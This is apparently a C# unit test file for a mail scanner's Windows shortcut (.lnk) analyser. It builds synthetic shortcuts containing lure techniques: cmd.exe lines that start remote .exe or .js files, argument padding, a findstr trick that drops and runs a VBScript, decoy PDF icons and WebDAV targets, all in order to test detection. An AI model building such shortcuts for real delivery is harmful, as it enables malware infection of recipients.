using System.Text;
using Lurewatch.Files.Shortcuts;
using Lurewatch.Samples;
using Shouldly;
using Xunit;

namespace Lurewatch.Tests.Files.Shortcuts;

public sealed class LnkHandlerTests
{
    private const string Cmd = @"C:\Windows\System32\cmd.exe";

    private static Analysis Scan(byte[] file, string name = "Invoice.pdf.lnk") => new MailScanner(new ScanOptions { Strict = true }).Scan(file, name);

    private static LnkFacts Facts(Analysis analysis) => analysis.Artifacts[0].Facts.ShouldBeOfType<LnkFacts>();

    private static IEnumerable<string> Kinds(Analysis analysis) => analysis.Findings.Select(finding => finding.Kind.Id);

    [Fact]
    public void Target_and_arguments_become_a_command_of_their_own()
    {
        var analysis = Scan(new LnkWriter { Target = Cmd, Arguments = "/c start https://files.example/a.exe" }.Write());
        var facts = Facts(analysis);
        facts.Target.ShouldBe(Cmd);
        facts.CommandLine.ShouldBe(Cmd + " /c start https://files.example/a.exe");
        var command = analysis.Artifacts.Single(file => file.Origin == "command");
        Encoding.UTF8.GetString(command.Bytes.Span).ShouldBe(facts.CommandLine);
        command.Steps.ShouldBe(["shortcut"]);
        analysis.Indicators.ShouldContain(indicator => indicator.Value == "https://files.example/a.exe" && indicator.Role == "download-url");
        Kinds(analysis).ShouldContain("shortcut.command");
    }

    [Fact]
    public void Every_text_and_block_is_read()
    {
        var file = new Guid("4D60E6FD-F76C-11EA-9D93-9A6CB2227E78");
        const string Editor = @"C:\Program Files\Editor\editor.exe";
        var writer = new LnkWriter { Target = Editor, LocalPath = Editor, Name = "Größe", RelativePath = @"..\editor.exe", WorkingDirectory = @"C:\Work", Icon = @"%SystemRoot%\x.ico", IconIndex = -3, ShowCommand = 7 };
        var facts = Facts(Scan(writer.Path(0xA0000001, @"%ProgramFiles%\Editor\editor.exe").Path(0xA0000007, @"%ProgramFiles%\x.ico").Tracker("desk-12", Guid.Empty, file).Extra(0xA0000004, BitConverter.GetBytes(932))
            .Extra(0xA0000005, [41, 0, 0, 0, 0, 0, 0, 0]).Extra(0xA0000008, Encoding.Unicode.GetBytes("Layer\0")).Extra(0xA000000B, [.. file.ToByteArray(), 1, 0, 0, 0])
            .Properties(new Guid("28636AA6-953D-11D2-B5D6-00C04FD918D0"), (30u, @"C:\Program Files\Editor\editor.exe")).Write()));
        facts.Description.ShouldBe("Größe");
        facts.RelativePath.ShouldBe(@"..\editor.exe");
        facts.WorkingDirectory.ShouldBe(@"C:\Work");
        (facts.IconLocation, facts.IconIndex, facts.ShowCommand).ShouldBe((@"%SystemRoot%\x.ico", -3, "minimized"));
        facts.Location.ShouldBe(new LnkLocation { LocalPath = @"C:\Program Files\Editor\editor.exe", DriveType = "fixed", DriveSerial = 0x12345678, VolumeLabel = "Data" });
        facts.Extra.EnvironmentTarget.ShouldBe(@"%ProgramFiles%\Editor\editor.exe");
        facts.Extra.EnvironmentIcon.ShouldBe(@"%ProgramFiles%\x.ico");
        (facts.Extra.Tracker?.MachineId, facts.Extra.Tracker?.Mac).ShouldBe(("desk-12", "9a:6c:b2:22:7e:78"));
        (facts.Extra.CodePage, facts.Extra.SpecialFolder, facts.Extra.ShimLayer, facts.Extra.KnownFolder).ShouldBe((932u, 41u, "Layer", file));
        facts.Extra.Properties.ShouldHaveSingleItem().Value.ShouldBe(@"C:\Program Files\Editor\editor.exe");
        facts.Modified.ShouldBe(new DateTimeOffset(2022, 4, 26, 8, 0, 0, TimeSpan.Zero));
        facts.Defects.ShouldBeEmpty();
        facts.Actions.ShouldBeEmpty();
    }

    [Fact]
    public void Long_names_stand_for_short_ones()
    {
        var facts = Facts(Scan(new LnkWriter { Items = [LnkWriter.FileItem("Program Files", true, "PROGRA~1"), LnkWriter.FileItem("Übersicht.exe", false, "BERSI~1.EXE")] }.Write()));
        facts.ItemPath.ShouldBe(@"Program Files\Übersicht.exe");
        facts.Items[1].ShortName.ShouldBe("BERSI~1.EXE");
    }

    [Fact]
    public void A_text_ends_where_Windows_stops_to_read_it_whatever_its_count_says()
    {
        var file = new LnkWriter { Target = Cmd, WorkingDirectory = new string(' ', 260), Arguments = "/c calc" }.Write();
        var count = file.AsSpan().IndexOf((ReadOnlySpan<byte>)[4, 1, 32, 0, 32, 0]);
        file[count] = 0x20;
        Facts(Scan(file)).Arguments.ShouldBe("/c calc");
    }

    [Fact]
    public void Arguments_in_the_code_page_are_read()
    {
        Facts(Scan(new LnkWriter { Target = Cmd, Arguments = "/c größe", Unicode = false }.Write())).Arguments.ShouldBe("/c größe");
    }

    [Fact]
    public void Blanks_before_the_arguments_are_evidence_and_left_out_of_the_command()
    {
        var analysis = Scan(new LnkWriter { Target = Cmd, Arguments = new string(' ', 300) + "/c\r\n\t" + new string('\n', 100) + "start https://a.example/x.js" }.Write());
        Facts(analysis).CommandLine.ShouldStartWith(Cmd + " /c");
        Facts(analysis).CommandLine.ShouldEndWith("start https://a.example/x.js");
        Facts(analysis).CommandLine!.Length.ShouldBeLessThan(80);
        Kinds(analysis).ShouldContain("shortcut.arguments-padded");
    }

    [Fact]
    public void A_command_under_a_document_s_icon_is_evidence()
    {
        Kinds(Scan(new LnkWriter { Target = Cmd, Arguments = "/c calc", Icon = @"C:\Program Files\Adobe\Acrobat DC\Acrobat\Acrobat.exe" }.Write())).ShouldContain("shortcut.icon-pretends");
        Kinds(Scan(new LnkWriter { Target = Cmd, Arguments = "/c calc", Icon = @".\Invoice.pdf" }.Write())).ShouldContain("shortcut.icon-pretends");
        Kinds(Scan(new LnkWriter { Target = Cmd, Arguments = "/c calc", Icon = Cmd }.Write())).ShouldNotContain("shortcut.icon-pretends");
        Kinds(Scan(new LnkWriter { Target = @"C:\Apps\reader.exe", Icon = @"C:\Apps\Acrobat.exe" }.Write())).ShouldNotContain("shortcut.icon-pretends");
    }

    [Fact]
    public void An_ordinary_shortcut_has_no_finding_of_its_own()
    {
        var analysis = Scan(new LnkWriter { Target = @"C:\Program Files\Editor\editor.exe", Arguments = "--new-window", WorkingDirectory = @"C:\Work" }.Write(), "Editor.lnk");
        Kinds(analysis).ShouldNotContain(kind => kind.StartsWith("shortcut.", StringComparison.Ordinal));
    }

    [Fact]
    public void A_line_that_findstr_picks_out_becomes_the_script_that_it_writes()
    {
        var script = "mark1x = \"https://one.example/a\"\r\nMsgBox mark1x 'mark1x\r\n";
        var analysis = Scan(new LnkWriter { Target = Cmd, Arguments = "/v:on /c findstr \"mark1x.*\" \"Invoice.pdf.lnk\" > \"%tmp%\\run.vbs\" & \"%tmp%\\run.vbs\"", Appended = Encoding.ASCII.GetBytes("\r\nnoise\r\n" + script) }.Write());
        Facts(analysis).ReadsItself.ShouldBeTrue();
        var dropped = analysis.Artifacts.Single(file => file.Origin == "dropped");
        (dropped.Name, dropped.Type).ShouldBe(("run.vbs", Lurewatch.Files.FileType.VbScript));
        Encoding.ASCII.GetString(dropped.Bytes.Span).ShouldContain("MsgBox");
        Encoding.ASCII.GetString(dropped.Bytes.Span).ShouldNotContain("noise");
        Kinds(analysis).ShouldContain("shortcut.reads-itself");
        Kinds(analysis).ShouldContain("shortcut.appended-data");
    }

    [Fact]
    public void Files_behind_one_another_after_the_end_are_taken_apart()
    {
        var decoy = "%PDF-1.4\n%%EOF\n"u8.ToArray();
        var zip = ZipWriter.Write([("a.txt", "hello"u8.ToArray())]);
        var analysis = Scan(new LnkWriter { Target = Cmd, Arguments = "/c powershell", Appended = [.. new byte[40], .. decoy, .. zip] }.Write());
        analysis.Artifacts.Count(file => file.Origin == "appended").ShouldBe(1);
        analysis.Artifacts.Where(file => file.Origin == "embedded").Select(file => file.Type).ShouldBe([Lurewatch.Files.FileType.Pdf, Lurewatch.Files.FileType.Zip]);
        analysis.Artifacts.ShouldContain(file => file.Name == "a.txt");
    }

    [Fact]
    public void Addresses_of_other_computers_are_fetched()
    {
        var analysis = Scan(new LnkWriter { Network = (@"\\files.example@80\dav", @"a\setup.exe"), Icon = @"\\icons.example\i\x.ico" }.Write());
        Facts(analysis).Target.ShouldBe(@"\\files.example@80\dav\a\setup.exe");
        Kinds(analysis).ShouldContain("shortcut.remote-target");
        Kinds(analysis).ShouldContain("shortcut.remote-icon");
        analysis.Indicators.ShouldContain(indicator => indicator.Value == "icons.example");
    }

    [Fact]
    public void A_second_program_behind_the_first_is_evidence()
    {
        var analysis = Scan(new LnkWriter { Target = @"C:\Windows\notepad.exe", Arguments = "-c calc" }.Path(0xA0000001, @"%windir%\System32\WindowsPowerShell\v1.0\powershell.exe").Write());
        analysis.Artifacts.Count(file => file.Origin == "command").ShouldBe(2);
    }

    [Fact]
    public void Nothing_that_a_size_claims_stops_the_reader()
    {
        var file = new LnkWriter { Target = Cmd, LocalPath = Cmd, Name = "n", Arguments = "/c calc", Icon = "i" }.Path(0xA0000001, Cmd).Tracker("m", Guid.Empty, Guid.Empty).Write();
        for (var length = 8; length < file.Length; length++) Facts(Scan(file[..length]));
        for (var at = 20; at < file.Length; at++)
        {
            foreach (var value in (ReadOnlySpan<byte>)[0, 0x7f, 0xff])
            {
                var broken = file.ToArray();
                broken[at] = value;
                Facts(Scan(broken));
            }
        }
    }
}
